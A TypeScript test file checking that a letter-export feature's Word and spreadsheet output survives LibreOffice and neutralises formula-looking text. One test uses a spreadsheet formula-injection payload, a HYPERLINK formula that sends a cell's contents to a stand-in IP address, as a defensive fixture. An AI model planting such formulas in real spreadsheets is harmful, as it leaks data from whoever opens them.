import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { unzipSync } from 'fflate'
import { expect, it } from 'vitest'
import { wordFile } from '#paper/word/word-file.ts'
import { letterSample } from '../paper/letter-sample.ts'
import { pagesOf, squeezed } from '../paper/reading.ts'
import { owner, xinqiao, zhouTao } from '../server/cast.ts'
import { call, testApp } from '../server/http/test-app.ts'
import { madeLetter } from '../server/letters/made-letter.ts'
import { cycle } from '../server/rows.ts'
import { temporaryFolder } from '../server/temporary.ts'
import { toolPath } from '../tools.ts'
import { convertWithLibreOffice } from './libre-office.ts'
import { cellsIn, savedByLibreOffice } from './opened-again.ts'

it('可编辑的函件：LibreOffice 打开后一字不缺，表头每页重复，页脚有页码；公式样的文字不是公式', async () => {
  toolPath('libreoffice-writer')
  const row = ['=1+1', '300.00 万元 ÷ 30.00 亩 = 10.00 万元/亩', '6.00 / 20.00']
  const rows = Array.from({ length: 60 }, (_, index) => [`${row[0]} ${index}`, row[1] ?? '', row[2] ?? ''])
  const blocks = letterSample.blocks.map((block) => (block.kind === 'table' ? { ...block, rows } : block))
  const folder = temporaryFolder()
  const file = join(folder, '函件.docx')
  await writeFile(file, await wordFile({ ...letterSample, blocks }))
  const pages = pagesOf(await readFile(await convertWithLibreOffice(file, 'pdf', folder)))
  expect(pages.length).toBeGreaterThan(1)
  const text = pages.join('')
  const said = letterSample.blocks.flatMap((block) =>
    block.kind === 'paragraph' || block.kind === 'heading' ? [block.text] : [],
  )
  for (const each of [letterSample.title, letterSample.subtitle ?? '', letterSample.footer, ...said]) {
    expect(text).toContain(squeezed(each))
  }
  expect(text).toContain('=1+159')
  for (const [index, page] of pages.entries()) {
    expect(page).toContain(`第${index + 1}页，共${pages.length}页`)
    expect(page).toContain('得分/满分')
  }
  expect(pages.at(-1)).toContain('2026年11月22日')
})

it('送达清单和一批里的清单：公式样的单位名在 LibreOffice 里重算后仍是文字', async () => {
  const app = await testApp()
  const typed = '=HYPERLINK("http://192.0.2.1/?x="&A1,"点我")'
  const { batch } = await madeLetter(app, { firm: owner, town: xinqiao, parcel: '=P+1', name: typed })
  const list = await call(app, zhouTao, 'exportFormalLetters', { query: { cycle } })
  const zip = await call(app, zhouTao, 'letterBatchFile', { params: { id: batch } })
  const files = unzipSync(new Uint8Array(await zip.arrayBuffer()))
  const [letter = '', inZip = ''] = Object.keys(files)
  expect(letter).not.toMatch(/[\\/:*?"<>|]/)
  for (const bytes of [new Uint8Array(await list.arrayBuffer()), files[inZip] ?? new Uint8Array()]) {
    for (const cells of [cellsIn(bytes), cellsIn(await savedByLibreOffice(bytes, 'xlsx'))]) {
      expect(cells.filter(({ formula }) => formula !== null)).toEqual([])
      const values = cells.map(({ value }) => value)
      expect(values).toContain(typed)
      expect(values).toContain('=P+1')
    }
  }
})
